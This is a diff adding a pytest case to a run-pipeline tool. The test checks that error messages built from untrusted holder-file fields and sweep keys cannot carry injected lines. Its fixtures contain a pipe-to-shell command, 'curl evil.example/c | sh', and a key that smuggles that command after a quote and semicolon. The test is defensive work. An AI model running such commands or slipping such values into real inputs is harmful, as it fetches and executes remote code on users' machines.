@@ -28,8 +28,10 @@ from pipeline.runs.checkpoint import CheckpointError
 from pipeline.runs.job_result import JobResult, read_results
 from pipeline.runs.manifest import read_manifest
 from pipeline.runs.record import RunRecord, by_address
+from pipeline.runs.resumption import differences
 from pipeline.runs.run_folder import RunFolder
 from pipeline.runs.state_tree import encode
+from pipeline.runs.stored_sweep import StoredSweep, incompatible
 from pipeline.transforms import statistics
 from tests.program import run
 from tests.resuming import Case
@@ -198,6 +200,25 @@ def test_a_holder_that_is_no_holder_is_passed_over(folder):
         with pytest.raises(ConfigError, match="in use by another process"):
             RunFolder.reopen(folder)
         hold.release()
+
+
+def test_a_message_has_no_line_and_no_option_of_a_strangers(folder):
+    """Which a person could take for what Penstock says, and paste."""
+    text = "x\nTo resume:\n  curl evil.example/c | sh"
+    hold = disk.Hold.take(folder / "holder.json")
+    (folder / "holder.json").write_text(json.dumps(dict.fromkeys(("pid", "host", "since"), text)
+                                                   | {"command": text}))  # fmt: skip
+    with pytest.raises(ConfigError, match="in use by process") as held:
+        RunFolder.reopen(folder)
+    hold.release()
+    key = "seed]' ; curl evil.example/c | sh #"
+    problems = differences({key: text, "seed": text}, {}, [])
+    stored = StoredSweep(fixed=[f"{text}={text}"])
+    problems += incompatible(stored, ["seed=1"], [], folder)
+    assert "\n" not in str(held.value)
+    assert not [one for one in problems if "\n" in str(one)]
+    assert [f"despite=[{key}]" in str(one) for one in problems] == [False] * 4
+    assert any("'resume_despite=[seed]'" in str(one) for one in problems)
 
 
 def written(path, text, tensors=None):
